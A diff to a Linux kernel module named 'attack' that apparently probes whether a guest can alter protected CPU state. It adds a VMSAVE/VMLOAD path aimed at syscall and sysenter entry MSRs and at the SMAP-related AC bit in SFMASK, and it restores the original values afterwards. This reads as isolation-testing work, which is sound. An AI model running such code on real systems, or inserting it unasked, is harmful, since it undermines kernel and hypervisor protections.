@@ -12,17 +12,20 @@
 #include <linux/proc_fs.h>
 #include <linux/uaccess.h>
 #include <linux/smp.h>
+#include <linux/gfp.h>
+#include <linux/io.h>
 #include <asm/apic.h>
 #include <asm/asm.h>
 #include <asm/msr.h>
 
-enum where { AN_MSR, A_CR0, A_CR4, AN_INIT };
+enum where { AN_MSR, A_CR0, A_CR4, AN_INIT, BY_VMLOAD };
 
 struct target {
 	const char *name;
 	u32 msr;
 	u64 set, clear, flip;
 	enum where where;
+	unsigned int vmcb;	/* where VMLOAD finds it */
 };
 
 static const struct target targets[] = {
@@ -39,10 +42,25 @@ static const struct target targets[] = {
 	{ "cr4.smap", .clear = X86_CR4_SMAP, .where = A_CR4 },
 	{ "cr4.umip", .clear = X86_CR4_UMIP, .where = A_CR4 },
 	{ "init", .where = AN_INIT },
+	{ "vmload.star", MSR_STAR, .flip = 1ull << 50, .where = BY_VMLOAD,
+	  .vmcb = 0x600 },
+	{ "vmload.lstar", MSR_LSTAR, .flip = 0x40, .where = BY_VMLOAD,
+	  .vmcb = 0x608 },
+	{ "vmload.cstar", MSR_CSTAR, .flip = 0x40, .where = BY_VMLOAD,
+	  .vmcb = 0x610 },
+	{ "vmload.sfmask", MSR_SYSCALL_MASK, .clear = X86_EFLAGS_AC,
+	  .where = BY_VMLOAD, .vmcb = 0x618 },
+	{ "vmload.sysenter_cs", MSR_IA32_SYSENTER_CS, .flip = 0x8,
+	  .where = BY_VMLOAD, .vmcb = 0x628 },
+	{ "vmload.sysenter_esp", MSR_IA32_SYSENTER_ESP, .flip = 0x40,
+	  .where = BY_VMLOAD, .vmcb = 0x630 },
+	{ "vmload.sysenter_eip", MSR_IA32_SYSENTER_EIP, .flip = 0x40,
+	  .where = BY_VMLOAD, .vmcb = 0x638 },
 };
 
 static DEFINE_MUTEX(lock);
 static char result[200] = "none\n";
+static u8 *vmcb;	/* a page */
 
 struct attempt {
 	u64 old, new, seen;
@@ -95,12 +113,46 @@ static void attack_other_cpu(void)
 	       APIC_INT_ASSERT);
 }
 
+/* Without SVM in this guest's CPUID, and without a VMCB of a guest of its own. */
+static void attack_vmload(const struct target *target, struct attempt *a)
+{
+	u64 *field = (u64 *)(vmcb + target->vmcb);
+
+	/* FS, GS, TR, and the like: VMLOAD loads them, too. */
+	asm volatile("1:	vmsave %%rax\n"
+		     "	xor %k[fault], %k[fault]\n"
+		     "	jmp 3f\n"
+		     "2:	mov $1, %k[fault]\n"
+		     "3:	lea 1b(%%rip), %[rip]\n"
+		     _ASM_EXTABLE(1b, 2b)
+		     : [fault] "=&r" (a->fault), [rip] "=&r" (a->rip)
+		     : "a" (virt_to_phys(vmcb)) : "memory");
+	if (!a->fault) {
+		WRITE_ONCE(*field, a->new);
+		asm volatile("1:	vmload %%rax\n"
+			     "	xor %k[fault], %k[fault]\n"
+			     "	jmp 3f\n"
+			     "2:	mov $1, %k[fault]\n"
+			     "3:	lea 1b(%%rip), %[rip]\n"
+			     _ASM_EXTABLE(1b, 2b)
+			     : [fault] "=&r" (a->fault), [rip] "=&r" (a->rip)
+			     : "a" (virt_to_phys(vmcb)) : "memory");
+	}
+	a->seen = __rdmsr(target->msr);
+	if (!a->fault) {
+		WRITE_ONCE(*field, a->old);
+		asm volatile("vmload %%rax"
+			     : : "a" (virt_to_phys(vmcb)) : "memory");
+	}
+}
+
 static u64 current_value(const struct target *target)
 {
 	u64 value = 0;
 
 	switch (target->where) {
 	case AN_MSR:
+	case BY_VMLOAD:
 		return __rdmsr(target->msr);
 	case A_CR0:
 		asm volatile("mov %%cr0, %0" : "=r" (value));
@@ -134,6 +186,9 @@ static void attack(const struct target *target)
 		break;
 	case AN_INIT:
 		attack_other_cpu();
+		break;
+	case BY_VMLOAD:
+		attack_vmload(target, &a);
 		break;
 	}
 	local_irq_restore(flags);
@@ -176,12 +231,20 @@ static const struct proc_ops ops = {
 
 static int __init attack_init(void)
 {
-	return proc_create("attack", 0600, NULL, &ops) ? 0 : -ENOMEM;
+	vmcb = (u8 *)get_zeroed_page(GFP_KERNEL);
+	if (!vmcb)
+		return -ENOMEM;
+	if (!proc_create("attack", 0600, NULL, &ops)) {
+		free_page((unsigned long)vmcb);
+		return -ENOMEM;
+	}
+	return 0;
 }
 
 static void __exit attack_exit(void)
 {
 	remove_proc_entry("attack", NULL);
+	free_page((unsigned long)vmcb);
 }
 
 module_init(attack_init);
